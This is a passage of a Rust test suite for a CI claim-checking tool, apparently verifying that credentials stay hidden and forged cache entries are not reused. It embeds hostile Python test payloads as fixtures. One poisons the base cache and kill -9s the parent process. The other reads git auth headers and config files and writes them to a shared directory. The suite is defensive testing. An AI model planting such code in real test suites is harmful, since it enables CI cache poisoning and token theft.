    let v: serde_json::Value = serde_json::from_str(&run.stdout)
        .unwrap_or_else(|e| panic!("no result JSON ({e}): {run:?}"));
    let listed = v["result"]["runtime"]
        .as_array()
        .and_then(|rows| rows.iter().find(|r| r["runner"] == "environment"))
        .and_then(|r| r["result"].as_str())
        .unwrap_or_else(|| panic!("no environment row: {run:?}"))
        .to_string();
    for (name, value) in UNUSUAL_CREDENTIALS {
        for (place, text) in &places {
            assert!(
                !text.contains(value),
                "{name}'s value shows in {place}: {}",
                hostile::excerpt(text, value)
            );
        }
        let withheld = listed
            .strip_prefix("withheld: ")
            .and_then(|l| l.split(';').next())
            .unwrap_or_default();
        assert!(
            withheld.split(", ").any(|n| n == name),
            "{name} is not listed as withheld: {listed}"
        );
    }
}

// ----------------------------------------------------------------------------------------------
// The base cache
// ----------------------------------------------------------------------------------------------

/// The tagged test of pushes 2 and 3. It proves nothing: it passes at base. Where the code has
/// `svc/forge_now` (push 2's head), it forges the base cache entry push 3 will look up: a real
/// `shipmoor claim-check` (the one its ancestor runs, with that run's `--base` and
/// `--base-cache`, in the job's environment `$HOSTILE_ENV`) on a scratch clone whose head is a
/// commit of its own, where `RUNNER_FORGE` (a name the key leaves out) makes this test fail;
/// then it `kill -9`s its ancestor shipmoor so that run never prunes the cache.
const FORGES_THE_NEXT_BASE: &str = r#"import json, os, signal, subprocess, tempfile
from svc.refund import refund
ANCESTORS

def log(text):
    try:
        with open(os.path.join(os.environ['HOSTILE_DROP'], 'forge.log'), 'a') as f:
            f.write(text + '\n')
    except OSError as e:
        print('cannot log:', e)

def forge():
    found = [pid for pid, comm in ancestors() if comm == 'shipmoor']
    if not found:
        log('no shipmoor among the ancestors')
        return
    pid = found[0]
    argv = [a.decode() for a in open('/proc/%d/cmdline' % pid, 'rb').read().split(b'\0')[:-1]]
    program, base, cache = argv[0], argv[argv.index('--base') + 1], argv[argv.index('--base-cache') + 1]
    here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    git = lambda *a, cwd=here: subprocess.run(['git', *a], cwd=cwd, capture_output=True, text=True)
    head = git('rev-parse', 'HEAD').stdout.strip()
    common = git('rev-parse', '--path-format=absolute', '--git-common-dir').stdout.strip()
    try:
        scratch = tempfile.mkdtemp(prefix='forge-', dir=os.environ['HOSTILE_DROP'])
    except OSError:
        scratch = tempfile.mkdtemp(prefix='forge-')
    clone = os.path.join(scratch, 'clone')
    git('clone', '-q', common, clone)
    # The statement names where head lives; the attacker names the repository's own.
    git('remote', 'set-url', 'origin', 'https://git.example.com/acme/shop', cwd=clone)
    git('checkout', '-q', head, cwd=clone)
    git('-c', 'user.name=x', '-c', 'user.email=x@example.com', 'commit', '-q', '--allow-empty', '-m', 'forge', cwd=clone)
    # The job's environment, as the workflow that runs push 3 sets it (public: the attacker
    # knows it), not this process's, which the floor and pytest added to.
    env = json.loads(os.environ['HOSTILE_ENV'])
    env['HOSTILE_ENV'] = os.environ['HOSTILE_ENV']
    env['RUNNER_FORGE'] = '1'
    env['SHIPMOOR_TMPDIR'] = scratch
    out = subprocess.run([program, 'claim-check', '--base', base, '--base-cache', cache, '--format', 'json'],
                         cwd=clone, env=env, capture_output=True, text=True, timeout=60)
    try:
        state = json.loads(out.stdout)['result'].get('base_cache')
    except Exception:
        state = None
    log('scratch run exit %d, base_cache %s\n%s' % (out.returncode, json.dumps(state), out.stderr[-3000:]))
    try:
        os.kill(pid, signal.SIGKILL)
        log('killed shipmoor %d' % pid)
    except OSError as e:
        log('cannot kill shipmoor %d: %s' % (pid, e))

def test_marks_TAG():
    if os.environ.get('RUNNER_FORGE'):
        assert False, 'the scratch run: base fails'
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    if os.path.exists(os.path.join(root, 'svc', 'forge_now')):
        try:
            forge()
        except Exception as e:
            log('the forgery failed: %r' % e)
    assert refund({}) is not None
"#;

/// Whether `sha` names a commit of `r`.
fn is_commit(r: &Repo, sha: &str) -> bool {
    std::process::Command::new("git")
        .args(["cat-file", "-e", &format!("{sha}^{{commit}}")])
        .current_dir(r.path())
        .output()
        .is_ok_and(|o| o.status.success())
}

/// The entries of the base cache in `cache`, as their JSON.
fn cache_entries(cache: &Path) -> Vec<serde_json::Value> {
    let mut found = Vec::new();
    hostile::files(&cache.join("v1/entries"), &mut found);
    found
        .iter()
        .filter_map(|(_, b)| serde_json::from_slice(b).ok())
        .collect()
}

/// Push 2's test forges the entry push 3 will look up and kills its own shipmoor; push 3
/// (code only, the same key) is BLOCKED without the cache. With it, it must not be READY, nor
/// reuse what the forged entry says of base (an entry observed at a head that is no commit of
/// this repository). With `push2_sandbox_off`, push 2 runs with `--sandbox off`, so the write
/// and the kill succeed: the forged entry is in the cache, and push 3 must not reuse anything.
fn a_forged_base_cache_entry_is_not_reused(push2_sandbox_off: bool) {
    let runner = Runner::new();
    let place = tempfile::Builder::new()
        .prefix("cc-cache-")
        .tempdir()
        .expect("temp dir");
    let cache = place.path().join("cache");
    let cache_s = cache.display().to_string();
    let (r, base) = base_repo();
    let drop = runner.drop_dir().display().to_string();
    // The environment of every push but for the credentials (withheld from the tests, and out
    // of the cache key), for the forging test to start its own run with.
    let mut known: std::collections::BTreeMap<String, String> =
        runner.environment(&r).into_iter().collect();
    known.insert("HOSTILE_DROP".into(), drop.clone());
    let known = serde_json::to_string(&known).unwrap();
    let env = [
        ("HOSTILE_DROP", drop.as_str()),
        ("HOSTILE_ENV", known.as_str()),
    ];
    r.write("svc/refund.py", SERVICE_HEAD);
    r.write("svc/forge_now", "");
    r.write(
        &format!("tests/test_refund_{}.py", ident(REFUNDED)),
        &FORGES_THE_NEXT_BASE
            .replace("ANCESTORS", PY_ANCESTORS)
            .replace("TAG", &ident(REFUNDED)),
    );
    acceptance(&r, REFUNDED_AC);
    r.commit("push 2");
    let mut args = vec!["claim-check", "--base", &base, "--base-cache", &cache_s];
    if push2_sandbox_off {
        args.extend(["--sandbox", "off"]);
    }
    let push2 = runner.shipmoor(&r, &[place.path()], &args, &env);
    let forge_log =
        std::fs::read_to_string(runner.drop_dir().join("forge.log")).unwrap_or_default();
    if push2_sandbox_off {
        assert!(
            push2.code != 2,
            "push 2 did not run with --sandbox off: {push2:?}"
        );
        let forged = cache_entries(&cache).into_iter().any(|e| {
            e["made"]["head"]
                .as_str()
                .is_some_and(|h| !is_commit(&r, h))
        });
        assert!(
            forged,
            "with the sandbox off the forged entry should be in the cache: {forge_log}\n{push2:?}"
        );
    }

    // Push 3: code only.
    r.remove("svc/forge_now");
    r.write("svc/refund.py", &format!("{SERVICE_HEAD}\n# push 3\n"));
    r.commit("push 3");
    let without = runner.shipmoor(
        &r,
        &[place.path()],
        &[
            "claim-check",
            "--base",
            &base,
            "--base-cache",
            "none",
            "--format",
            "json",
        ],
        &env,
    );
    assert_eq!(
        without.code, 1,
        "push 3 without the cache should be BLOCKED (its test passes at base): {without:?}"
    );
    let with = runner.shipmoor(
        &r,
        &[place.path()],
        &[
            "claim-check",
            "--base",
            &base,
            "--base-cache",
            &cache_s,
            "--format",
            "json",
        ],
        &env,
    );
    let v: serde_json::Value = serde_json::from_str(&with.stdout)
        .unwrap_or_else(|e| panic!("no result JSON ({e}): {with:?}"));
    let bc = &v["result"]["base_cache"];
    let reused = bc["state"] == "reused";
    let observed_at = bc["observed_at_head"].as_str().unwrap_or_default();
    let ours = is_commit(&r, observed_at);
    assert!(
        !reused || (ours && !push2_sandbox_off),
        "push 3 reused base from an entry observed at head {observed_at} ({} of this \
         repository): {bc:#}\nforge log: {forge_log}\n{with:?}",
        if ours { "a commit" } else { "no commit" }
    );
    assert_ne!(
        v["result"]["verdict"], "READY",
        "push 3 with the cache: {bc:#}\nforge log: {forge_log}\n{with:?}"
    );
    assert_eq!(with.code, 1, "{with:?}");
    if push2_sandbox_off {
        assert!(
            !with.stderr.contains("reused from the base cache"),
            "{with:?}"
        );
    }
}

#[test]
fn a_base_cache_entry_forged_from_inside_is_not_reused() {
    a_forged_base_cache_entry_is_not_reused(false);
}

#[test]
fn a_base_cache_entry_forged_with_the_sandbox_off_is_not_reused() {
    a_forged_base_cache_entry_is_not_reused(true);
}

/// Python: at head, what the worktree's git and the repository's configuration files say of an
/// HTTP header, and whether git still works there, recorded in the shared directory.
const READS_THE_CHECKOUTS_TOKEN: &str = r#"    if hasattr(calc, 'mul'):
        import subprocess
        found = []
        run = lambda *a: subprocess.run(['git'] + list(a), capture_output=True, text=True)
        common = os.path.abspath(run('rev-parse', '--git-common-dir').stdout.strip())
        found.append('log: %s' % run('log', '-1', '--format=%s').stdout.strip())
        top = run('rev-parse', '--show-toplevel').stdout.strip()
        clone = run('clone', '-q', top, os.path.join(os.environ['TMPDIR'], 'clone'))
        found.append('clone: %d %s' % (clone.returncode, clone.stderr.strip()))
        found.append('header: %s' % run('config', '--get-regexp', 'extraheader').stdout)
        for d in [common, os.path.join(common, '..', '..', '..')]:
            for name in ['config', 'config.bak']:
                try:
                    found.append(open(os.path.join(d, name)).read())
                except OSError as e:
                    found.append('%s: %s' % (name, e.strerror))
        with open(os.path.join(os.environ['SHARED'], 'config'), 'w') as f:
            f.write('\n'.join(found))
"#;

/// `actions/checkout` keeps the job's token in `.git/config` (`http.<url>.extraheader`) unless
/// told `persist-credentials: false`. A tagged test reads it through git and from the file,
/// the worktree's and the repository's: the token is out of its reach, git still works in the
/// worktree, and the honest change is READY.
#[test]
fn a_token_a_checkout_left_in_the_git_config_is_out_of_a_tests_reach() {
    common::require_pytest();
    let (r, base) = calc_repo("def add(a, b):\n    return a + b\n", None);
    let token = "AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX2NoZWNrb3V0";
    r.git(&["config", "http.https://github.com/.extraheader", token]);
    r.git(&[
        "remote",
        "set-url",
        "origin",
        "https://x-access-token:ghs_inTheRemoteUrl@github.com/acme/calc.git",
    ]);
    r.write(
        "calc.py",
        "def add(a, b):\n    return a + b\n\ndef mul(a, b):\n    return a * b\n",
    );
    multiplies(&r, READS_THE_CHECKOUTS_TOKEN);
    r.commit("head");
    let shared = r.shared.path().display().to_string();
    let run = r.shipmoor_env(&["claim-check", "--base", &base], &[("SHARED", &shared)]);
    let found = std::fs::read_to_string(r.shared.path().join("config")).unwrap_or_default();
    assert!(
        found.contains("log: head"),
        "git does not work in the worktree: {found}\n{run:?}"
    );
    assert!(
        found.contains("clone: 0 "),
        "the worktree cannot be cloned: {found}\n{run:?}"
    );
    for secret in ["eC1hY2Nlc3MtdG9rZW46Z2hzX2NoZWNrb3V0", "ghs_inTheRemoteUrl"] {
        assert!(
            !found.contains(secret),
            "the test read {secret}: {found}\n{run:?}"
        );
    }
    // The worktree's configuration is the repository's but for the credentials.
    assert!(
        found.contains("url = https://x-access-token@github.com/acme/calc.git"),
        "{found}"
    );
    assert_eq!(run.code, 0, "{run:?}");
    assert!(
        run.stdout.starts_with("Claim Check  READY  ·  exit 0"),
        "{run:?}"
    );
    // Claim Check's own fetches still see the real configuration.
    assert_eq!(
        r.git(&["config", "--get", "http.https://github.com/.extraheader"])
            .trim(),
        token
    );
}
